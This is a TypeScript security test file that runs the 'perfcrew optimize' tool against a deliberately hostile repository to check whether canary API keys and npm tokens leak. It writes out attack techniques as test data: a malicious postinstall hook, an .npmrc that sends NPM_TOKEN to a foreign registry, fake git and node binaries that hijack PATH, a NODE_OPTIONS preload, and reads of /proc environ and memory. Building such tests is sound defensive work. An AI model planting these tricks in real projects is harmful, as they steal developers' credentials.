// The whole of `perfcrew optimize` on code that attacks it: in its tests, on installation, and in programs with well-known names.
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gitRepository } from '../../test/kit/git-repository.ts';
import { processNamespace } from '../../src/io/zones/isolation.ts';
import { tried, type Tried } from './tried.ts';

const CLI = join(import.meta.dirname, '../../src/cli.ts');
const HOSTILE = join(import.meta.dirname, 'hostile-code.mjs');
/** What is left alive beats five times as often. */
const WATCH_MS = 1000;

interface Loot {
  readonly mode: string;
  readonly environment?: Readonly<Record<string, string>>;
  readonly environs: readonly number[];
  readonly memories?: readonly number[];
  readonly forged?: readonly string[];
}

interface Ended {
  readonly exitCode: number;
  readonly stdout: string;
  readonly stderr: string;
  /** Processes whose environment held the key. */
  readonly holders: readonly string[];
  readonly looked: number;
}

export async function tryHostileRun(): Promise<readonly Tried[]> {
  const loot = await mkdtemp(join(tmpdir(), 'perfcrew-loot-'));
  const secret = `canary-${randomBytes(12).toString('hex')}`;
  await using registry = await listen(404);
  await using provider = await listen(401);
  try {
    await using repository = await hostileRepository(loot, registry.origin);
    const preload = join(loot, 'preload.cjs');
    await writeFile(
      preload,
      `if (process.permission) require('node:fs').writeFileSync(${JSON.stringify(join(repository.directory, '.perfcrew', 'preloaded'))}, '');\n`,
    );
    const ended = await perfcrew(
      ['optimize', '--base', 'main', '--head', 'change', '--level', 'comprehensive', '--minutes', '0.05'],
      repository.directory,
      {
        ANTHROPIC_API_KEY: `sk-ant-${secret}`,
        NPM_TOKEN: `npm-${secret}`,
        GITHUB_TOKEN: `ghs_${secret}`,
        NODE_OPTIONS: `--require=${preload}`,
        // It refuses the key, and rules do the work.
        PERFCREW_MODEL_BASE_URL: provider.origin,
        PERFCREW_CACHE: join(loot, 'cache'),
        npm_config_cache: join(loot, 'npm'),
      },
    );
    const endedAt = Date.now();
    await sleep(WATCH_MS);
    const found = await readLoot(loot);
    const late = found.late.filter(({ at }) => at > endedAt + 300);
    const run = join(repository.directory, '.perfcrew');
    const proofs = await readdir(join(run, 'proofs')).catch(() => []);
    const thoughts = await readFile(join(run, 'thoughts.json'), 'utf8').catch(() => '');
    const ran = found.first.map(({ mode }) => mode);
    const seen = `ran as ${[...new Set(ran)].toSorted().join(', ') || 'nothing'}; perfcrew ended with ${ended.exitCode}`;
    const told = `${ended.stdout}${ended.stderr}`;
    const everything = JSON.stringify(found.first.map(({ environment }) => environment));
    const control = ran.includes('test') && ran.includes('install') && ran.includes('proof');
    return [
      tried('the attacks are really run: on installation, in tests of a review, and in tests of a proof', {
        zone: 'run',
        stoppedBy: 'nothing; this is the control',
        through: !control,
        seen: `${seen}${control ? '' : `: ${told.slice(-1500)}`}`,
      }),
      tried("the key reaches the model's server by the thinking process", {
        zone: 'think',
        stoppedBy: 'nothing; this is the control',
        through: !provider.headers().includes(`sk-ant-${secret}`),
        seen: `${provider.count()} requests arrived`,
      }),
      tried('a patched package.json whose postinstall prints the environment', {
        zone: 'run',
        stoppedBy: 'an allow-list of variables',
        incident: 'Clinejection 2026-02, npm postinstall',
        through: everything.includes(secret),
        seen,
      }),
      tried('a test that reads /proc/PID/environ of every process', {
        zone: 'think',
        stoppedBy: 'none of them holds a secret',
        incident: 'agents that could read /proc/self/environ, 2026-06',
        through: found.all.some(({ environs }) => environs.length > 0),
        seen,
      }),
      tried("somebody else's process of the same user reads the environments of perfcrew's processes", {
        zone: 'think',
        stoppedBy: 'the process that had the key began anew without it, and hands it on by a pipe',
        incident: 'agents that could read /proc/self/environ, 2026-06',
        through: ended.holders.length > 0 || ended.looked === 0,
        seen: `looked ${ended.looked} times, the key was in ${ended.holders.length} environments`,
      }),
      tried('a test that reads the memory of every process (/proc/PID/mem)', {
        zone: 'think',
        stoppedBy: 'a process namespace: there is nobody else to see',
        incident: 'TanStack 2026-05, token read from runner memory',
        through: found.first.some(({ memories = [] }) => memories.length > 0),
        seen,
        needsNamespace: true,
      }),
      tried('a process that leaves its family and waits for the key of the next round', {
        zone: 'think',
        stoppedBy: 'the namespace ends with the proof, and all in it',
        through: late.length > 0,
        seen: `${found.late.length} such processes were started, ${late.length} lived on`,
        needsNamespace: true,
      }),
      tried('a test that writes forged proofs beside the real ones', {
        zone: 'publish',
        stoppedBy:
          'proofs are written after the code has ended, over whatever is there; each is parsed and named by its id',
        incident: 'artifact poisoning',
        through: proofs.some((name) => name.startsWith('0123456789')) || /0123456789/.test(told),
        seen: `${proofs.length} files in proofs`,
      }),
      tried('a test that rewrites the proposals while they are proven', {
        zone: 'run',
        stoppedBy: 'they are read once, before anything runs',
        through: !proofs.some((name) => /^[0-9a-f]{14}\.json$/.test(name)) || ended.exitCode !== 0,
        seen: `thoughts.json was ${thoughts.length < 100 ? 'overwritten' : 'left alone'}; ${proofs.length} files in proofs`,
      }),
      tried('an .npmrc in head that sends a token to another registry', {
        zone: 'run',
        stoppedBy: 'the variable it names is not set for the code under review',
        incident: 'npm token theft, Nx s1ngularity 2025-08',
        through: registry.headers().includes(secret),
        seen: `${registry.count()} requests arrived`,
      }),
      tried('a fake git and a fake node in node_modules/.bin of head', {
        zone: 'run',
        stoppedBy: 'perfcrew starts its own tools from its own PATH',
        through: found.fakes.some((text) => !text.endsWith('/git called-by-the-test')),
        seen: `${found.fakes.length} calls of the fakes, by the code under review itself`,
      }),
      tried('NODE_OPTIONS that loads a module into the thinking process', {
        zone: 'think',
        stoppedBy: 'an allow-list of variables without it',
        through: (await readdir(run)).includes('preloaded'),
        seen,
      }),
      tried('the key in what perfcrew prints and writes', {
        zone: 'think',
        stoppedBy: 'nothing prints it',
        through: told.includes(secret) || (await textsBelow(run)).some((text) => text.includes(secret)),
        seen,
      }),
    ];
  } finally {
    await rm(loot, { recursive: true, force: true, maxRetries: 3 });
  }
}

export function isIsolatedHere(): boolean {
  return processNamespace(process.env) !== null;
}

async function hostileRepository(loot: string, registry: string) {
  const repository = await gitRepository({
    '.github/perfcrew.yml': `setup: { install: npm install --no-audit --no-fund }
checks: { test: npm test }
`,
    'package.json': '{ "name": "honest", "version": "1.0.0", "scripts": { "test": "node --version" } }\n',
    'work.js': work('const wanted = new Set(list);\n  return all.filter((one) => wanted.has(one));'),
    '.gitignore': '.perfcrew\n',
  });
  const fake = `#!/bin/sh\necho "$0 $*" >> ${loot}/fakes.txt\nexit 0\n`;
  repository.branch('change');
  await repository.commit({
    'package.json': `${JSON.stringify({
      name: 'hostile',
      version: '1.0.0',
      scripts: {
        postinstall: `"${process.execPath}" hostile.mjs ${loot} install`,
        test: `git called-by-the-test; "${process.execPath}" hostile.mjs ${loot} test`,
      },
      optionalDependencies: { 'never-there': '1.0.0' },
    })}\n`,
    '.npmrc': `registry=${registry}/\n//${registry.replace('http://', '')}/:_authToken=\${NPM_TOKEN}\nfetch-retries=0\nupdate-notifier=true\n`,
    'hostile.mjs': await readFile(HOSTILE, 'utf8'),
    'work.js': work('return all.filter((one) => list.includes(one));'),
    'bin/git': { executable: fake },
    'node_modules/.bin/git': { executable: fake },
    'node_modules/.bin/node': { executable: fake },
  });
  return repository;
}

function work(body: string): string {
  return `const list = Array.from({ length: 3000 }, (_, at) => String(at * 2));
const all = Array.from({ length: 3000 }, (_, at) => String(at));
function both(all, list) {
  ${body}
}
if (both(all, list).length !== 1500) process.exit(1);
`;
}

async function readLoot(loot: string) {
  const names = (await readdir(loot)).filter((name) => name.endsWith('.json'));
  const all: (Loot & { readonly at?: number })[] = [];
  for (const name of names) {
    try {
      all.push(JSON.parse(await readFile(join(loot, name), 'utf8')));
    } catch {
      // It is being written this moment.
    }
  }
  const fakes = (await readFile(join(loot, 'fakes.txt'), 'utf8').catch(() => '')).split('\n').filter(Boolean);
  return {
    all,
    first: all.filter(({ mode }) => mode !== 'late'),
    late: all.filter(({ mode }) => mode === 'late').map(({ at = 0 }) => ({ at })),
    fakes,
  };
}

async function textsBelow(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { withFileTypes: true, recursive: true });
  const files = entries.filter((entry) => entry.isFile());
  return await Promise.all(
    files.map((entry) => readFile(join(entry.parentPath, entry.name), 'latin1').catch(() => '')),
  );
}

/** A registry of somebody else's that writes down who comes with what. */
async function listen(status: number) {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(`${request.url ?? ''} ${JSON.stringify(request.headers)}`);
    response.writeHead(status, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    origin: `http://127.0.0.1:${port}`,
    headers: () => seen.join('\n'),
    count: () => seen.length,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** While it runs, somebody looks into the environment of every process for the key. */
async function perfcrew(
  words: readonly string[],
  directory: string,
  environment: Readonly<Record<string, string>> & { readonly ANTHROPIC_API_KEY: string },
): Promise<Ended> {
  const holders: string[] = [];
  let looked = 0;
  const child = execFile(process.execPath, [CLI, ...words], {
    cwd: directory,
    env: { ...process.env, ...environment },
    maxBuffer: 32_000_000,
    timeout: 300_000,
  });
  child.stdin?.end();
  let stdout = '';
  let stderr = '';
  child.stdout?.on('data', (chunk: string) => (stdout += chunk));
  child.stderr?.on('data', (chunk: string) => {
    stderr += chunk;
    looked += 1;
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name)))
      if (environOf(pid).includes(environment.ANTHROPIC_API_KEY)) holders.push(pid);
  });
  const [exitCode] = await once(child, 'close');
  return { exitCode: typeof exitCode === 'number' ? exitCode : -1, stdout, stderr, holders, looked };
}

function environOf(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/environ`, 'latin1');
  } catch {
    return '';
  }
}
